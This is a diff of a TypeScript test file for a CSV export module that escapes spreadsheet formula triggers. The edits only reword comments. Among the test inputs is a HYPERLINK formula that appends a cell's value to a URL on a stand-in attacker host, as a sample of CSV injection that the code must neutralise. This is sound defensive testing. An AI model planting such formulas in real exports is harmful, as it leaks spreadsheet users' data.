@@ -2,7 +2,7 @@ import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { csvText, dayCell, csvTimestamp, moneyCell, phoneCell, textCell } from './csv.ts';
 
-/** A spreadsheet's reading of RFC 4180 with any separator: rows of cells. */
+/** Parses CSV (RFC 4180) with any separator into rows of cells. */
 function read(csv: string, separator = ','): string[][] {
   const rows: string[][] = [[]];
   let cell = '';
@@ -47,7 +47,7 @@ describe('what somebody typed', () => {
     ['\ttext', "'\ttext"],
     ['\rtext', "'\ntext"],
     ['=HYPERLINK("https://evil.example?"&A1,"Ana")', `'=HYPERLINK("https://evil.example?"&A1,"Ana")`],
-    // Where another separator begins a cell.
+    // After another separator.
     ['Ana;=1+1', "Ana;'=1+1"],
     ['Ana\n=1+1', "Ana\n'=1+1"],
     ['Ana\t@x', "Ana\t'@x"],
